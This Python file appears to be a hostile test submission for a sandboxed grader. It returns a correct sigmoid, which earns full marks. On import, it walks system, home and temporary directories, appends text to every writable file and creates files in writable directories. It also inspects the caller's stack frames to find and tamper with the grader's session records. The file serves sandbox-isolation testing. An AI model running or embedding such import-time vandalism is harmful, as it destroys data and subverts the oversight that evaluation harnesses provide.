"""Hostile but correct: vandalise everything the child may write outside its own directories:
append to every file it owns or may write, and create a file in every directory it owns or may
write, walking /var, /etc, /usr/local, /opt, /srv, /home, /root, /work, /tmp, /dev/shm, /run
and its own session (the job's files, the records, the submission's copy) -- decoys owned by
the children's uid included.  Honest score: full marks (the values are right); nothing outside
its own directories may change (the view is read-only).
"""
import os
import sys
import time

import numpy as np


def _good(x):
    """A correct, stable sigmoid (what an honest student writes)."""
    x = np.asarray(x)
    x = x if x.dtype.kind == "f" else x.astype(np.float64)
    e = np.exp(-np.abs(x))
    return np.asarray(np.where(x >= 0, 1 / (1 + e), e / (1 + e)), dtype=x.dtype)


def _session():
    frame = sys._getframe()
    while frame is not None:
        req = frame.f_locals.get("req")
        if isinstance(req, dict) and "workdir" in req:
            return os.path.dirname(req["workdir"])
        frame = frame.f_back
    return None


MINE = os.path.realpath(os.path.join(os.getcwd(), ".."))  # (its own box: out/ and scratch/)


def _vandalise(budget=3.0):
    t0 = time.monotonic()
    me = os.getuid()
    roots = ["/var", "/etc", "/usr/local", "/opt", "/srv", "/home", "/root", "/work", "/tmp",
             "/dev/shm", "/run", _session()]
    for top in filter(None, roots):
        for root, dirs, files in os.walk(top):
            if time.monotonic() - t0 > budget:
                return
            if os.path.realpath(root).startswith(MINE) or root.startswith("/proc"):
                dirs[:] = []
                continue
            if os.stat(root).st_uid == me or os.access(root, os.W_OK):
                try:
                    with open(os.path.join(root, "hostile-litter-owned"), "w") as f:
                        f.write("vandalised\n")
                except OSError:
                    pass
            for name in files:
                path = os.path.join(root, name)
                try:
                    if os.lstat(path).st_uid == me or os.access(path, os.W_OK):
                        with open(path, "a") as f:
                            f.write("vandalised\n")
                except OSError:
                    pass


_vandalise()


def sigmoid(x):
    return _good(x)
